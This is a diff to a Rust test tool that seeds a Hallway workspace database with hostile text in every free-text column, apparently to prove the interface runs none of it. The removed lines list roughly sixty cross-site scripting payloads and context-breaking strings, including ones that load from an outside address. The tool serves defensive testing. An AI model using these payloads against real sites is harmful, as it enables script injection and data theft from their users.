@@ -1,11 +1,15 @@
 //! Makes a workspace in which every text says something that would like to run: for the proof that in the real window
 //! nothing does. Every column of text is found by asking the file, so that a new one is hostile from its first day. Never shipped.
 //!
-//! `hallway-hostile --file F --payloads N --outside http://127.0.0.1:PORT [--seed N]` prints `{"people":[…],"texts":[…],"columns":N}`.
+//! `hallway-hostile --file F --payloads N --outside http://127.0.0.1:PORT [--seed N]` prints `{"people":[…],"texts":[…],"columns":N,"lists":[…]}`.
+mod community;
+mod texts;
+
 use acts::prove::Chance;
 use hallway_core::{Now, Store, TABLES, dispatch, open, store::Memory};
-use serde_json::{Value, json};
+use serde_json::json;
 use std::{collections::HashMap, error::Error, path::Path};
+use texts::{BREAKS, PAYLOADS};
 
 /// Columns that hold words of Hallway's own, or ids, dates and JSON it wrote: another word there is a damaged file, and said
 /// to be one. Every other column of text gets hostile text.
@@ -20,6 +24,15 @@ const OUR_WORDS: &[(&str, &[&str])] = &[
     ("field_values", &["date"]),
     ("touchpoints", &["kind", "on_day", "precision", "zone", "direction", "intent", "source"]),
     ("touchpoint_people", &["role", "observed_stage", "observed_by"]),
+    ("followups", &["kind", "due", "zone", "hidden_until", "every", "begun", "unless", "status", "settled_on"]),
+    ("set_aside", &["key", "on_day", "until_day"]),
+    ("views", &["sort", "layout", "columns"]),
+    ("list_people", &["on_day"]),
+    ("exports_made", &["purpose", "channel", "template", "columns", "left_out", "sha256"]),
+    ("contact_bases", &["purpose", "basis", "recorded_on"]),
+    ("objections", &["kind", "on_day"]),
+    ("suppression_keys", &["secret"]),
+    ("suppressions", &["hash", "kind", "reason", "on_day", "lifted_on"]),
     ("stage_changes", &["axis", "from_stage", "to_stage", "on_day", "status", "cause", "evidence"]),
     ("stage_pins", &["axis", "stage", "on_day", "until", "until_day"]),
     ("imports", &["layout"]),
@@ -42,73 +55,6 @@ const OUR_WORDS: &[(&str, &[&str])] = &[
     ),
 ];
 
-/// What runs where it can: `§` says that it did, and asks for what a script would ask for; `¤` is an address outside.
-const PAYLOADS: &[&str] = &[
-    "<script>§</script>",
-    "<script src=¤/s></script>",
-    "<img src=x onerror=§>",
-    "<img src=¤/img>",
-    "<svg onload=§>",
-    "<svg><script>§</script></svg>",
-    "<svg><animate onbegin=§ attributeName=x dur=1s>",
-    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=§>\"/></svg>",
-    "<math><mtext></mtext><style><img src=x onerror=§></style></math>",
-    "<math href=\"javascript:§\">click</math>",
-    "<iframe src=\"javascript:§\"></iframe>",
-    "<iframe srcdoc=\"<script>§</script>\"></iframe>",
-    "<iframe src=¤/frame></iframe>",
-    "<object data=\"javascript:§\"></object>",
-    "<embed src=¤/embed>",
-    "<link rel=stylesheet href=¤/style>",
-    "<link rel=prefetch href=¤/prefetch>",
-    "<style>@import '¤/import';</style>",
-    "<style>*{background:url(¤/background)}</style>",
-    "<base href=¤/>",
-    "<meta http-equiv=refresh content=\"0;url=¤/refresh\">",
-    "<form action=¤/form><input autofocus onfocus=§></form>",
-    "<input autofocus onfocus=§>",
-    "<select autofocus onfocus=§>",
-    "<textarea autofocus onfocus=§>",
-    "<details open ontoggle=§>",
-    "<video src=x onerror=§>",
-    "<video><source onerror=§></video>",
-    "<audio src=¤/audio onerror=§>",
-    "<body onload=§>",
-    "<marquee onstart=§>",
-    "<a href=\"javascript:§\">here</a>",
-    "<a href=\"data:text/html,<script>§</script>\">here</a>",
-    "<a href=\"vbscript:§\">here</a>",
-    "[here](javascript:§)",
-    "![x](¤/markdown)",
-    "javascript:§",
-    "JaVaScRiPt:§",
-    "data:text/html,<script>§</script>",
-    "java\tscript:§",
-    "¤/link",
-    "{{constructor.constructor('§')()}}",
-    "${§}",
-    "#{§}",
-    "<%= § %>",
-    "{@html '<img src=x onerror=§>'}",
-    "<noscript><p title=\"</noscript><img src=x onerror=§>\">",
-    "<template><img src=x onerror=§></template>",
-    "<!--><img src=x onerror=§>-->",
-    "<![CDATA[><img src=x onerror=§>]]>",
-    "<p style=\"background:url(¤/css)\">x</p>",
-    "<x onclick=§ style=\"position:fixed;inset:0\">x</x>",
-    "<button popovertarget=x onclick=§>x</button>",
-    "<img srcset=\"¤/srcset 1x\">",
-    "<portal src=¤/portal></portal>",
-    "<dialog open onclose=§>x</dialog>",
-    "<isindex action=javascript:§ type=image>",
-    "\u{202e}<img src=x onerror=§>\u{202c}",
-    "<ｓｃｒｉｐｔ>§</ｓｃｒｉｐｔ>",
-    "\u{0}<script>§</script>",
-];
-
-/// What could end whatever the text is put into.
-const BREAKS: &[&str] = &["", "\">", "'>", "</textarea>", "</title>", "-->", "</script>", "</style>", "]]>", "`;"];
-
 fn main() -> Result<(), Box<dyn Error>> {
     let arguments: Vec<String> = std::env::args().skip(1).collect();
     let options: HashMap<&str, &str> =
@@ -128,62 +74,15 @@ fn main() -> Result<(), Box<dyn Error>> {
         })
         .collect();
 
-    let store = open(Path::new(needed("--file")?), Now::system(), 1, "UTC")?;
-    let people = community(&store, texts.len())?;
+    let path = Path::new(needed("--file")?);
+    let store = open(path, Now::system(), 1, "UTC")?;
+    let people = community::community(&store, path.parent().ok_or("say a file in a folder")?, &texts)?;
     let columns = hostile(&store, &texts, &mut chance)?;
-    println!("{}", json!({ "people": people, "texts": texts, "columns": columns }));
+    dispatch(&store, Now::system(), "workspace.set_up", json!({ "product": texts[0], "zone": "UTC" }))?;
+    let lists = dispatch(&store, Now::system(), "lists.list", json!({}))?.value;
+    let lists: Vec<_> = lists.as_array().into_iter().flatten().map(|list| list["id"].clone()).collect();
+    println!("{}", json!({ "people": people, "texts": texts, "columns": columns, "lists": lists }));
     Ok(())
-}
-
-/// Somebody for each text, with everything somebody can have.
-fn community(store: &Store, count: usize) -> Result<Vec<Value>, Box<dyn Error>> {
-    let call = |command: &str, input: Value| dispatch(store, Now::system(), command, input).map(|reply| reply.value);
-    call("workspace.set_up", json!({ "product": "Queues", "zone": "UTC" }))?;
-    let fields: Vec<Value> = (0..4)
-        .map(|n| {
-            call("fields.define", json!({ "label": format!("Field {n}"), "kind": "text", "choices": [] }))
-                .map(|field| field["id"].clone())
-        })
-        .collect::<Result<_, _>>()?;
-    let mut people = Vec::new();
-    for n in 0..count {
-        let person = call("people.create", json!({ "displayName": format!("Person {n}"), "organisation": format!("Firm {n}"), "city": "Pune", "notes": "n" }))?["id"].clone();
-        for (kind, value) in [
-            ("email", format!("p{n}@acme.example")),
-            ("website", format!("https://acme.example/{n}")),
-            ("github", format!("p{n}")),
-            ("phone", format!("+49 30 {n:05}")),
-        ] {
-            call(
-                "contact_points.add",
-                json!({ "person": person, "kind": kind, "value": value, "source": "they_gave_it" }),
-            )?;
-        }
-        call(
-            "postal_addresses.add",
-            json!({ "person": person, "lines": format!("Kiln Lane {n}"), "country": "DE", "phone": "n", "purpose": "stickers", "source": "they_gave_it", "sourceNote": "n" }),
-        )?;
-        call(
-            "tags.add",
-            json!({ "people": [person], "name": format!("Tag {n}"), "kind": if n % 2 == 0 { "topic" } else { "stack" } }),
-        )?;
-        for field in &fields {
-            call("fields.set", json!({ "person": person, "field": field, "value": "M" }))?;
-        }
-        let entry = call(
-            "touchpoints.log",
-            json!({ "kind": "first_success", "people": [{ "person": person, "observedBy": "seen" }], "note": "n" }),
-        )?;
-        call("touchpoints.edit", json!({ "id": entry["id"], "note": "nn" }))?;
-        call("journey.pin", json!({ "person": person, "stage": "learn", "until": "good", "reason": "because" }))?;
-        if n % 10 == 9 {
-            call("touchpoints.trash", json!({ "id": entry["id"] }))?;
-        }
-        people.push(person);
-    }
-    let gone = call("people.create", json!({ "displayName": "Gone" }))?;
-    call("people.trash", json!({ "ids": [gone["id"]] }))?;
-    Ok(people)
 }
 
 /// Writes the texts into every column of text that is not kept for words of ours, and says how many columns that were.
@@ -195,7 +94,15 @@ fn hostile(store: &Store, texts: &[String], chance: &mut Chance) -> Result<usize
         for table in TABLES.iter().map(|table| table.name).chain(derived) {
             let ours = OUR_WORDS.iter().find(|(name, _)| *name == table).map_or(&[][..], |(_, columns)| columns);
             let all: Vec<String> = tx.column("SELECT name FROM pragma_table_info(?1) WHERE type = 'TEXT'", [table])?;
-            for column in all.iter().filter(|column| !ours.contains(&column.as_str())) {
+            let hostile: Vec<&String> = all.iter().filter(|column| !ours.contains(&column.as_str())).collect();
+            // Nothing would be seen of a table in which nothing stands.
+            if !hostile.is_empty() && tx.scalar::<i64>(&format!("SELECT 1 FROM {table} LIMIT 1"), [])?.is_none() {
+                return Err(hallway_core::Error::Invalid {
+                    field: "table".into(),
+                    message: format!("Nothing stands in {table}: put something there in community.rs."),
+                });
+            }
+            for column in hostile {
                 columns += 1;
                 let order = if table == "person_state" { "added_at" } else { "rowid" };
                 let key = if table == "person_state" { "person" } else { "rowid" };
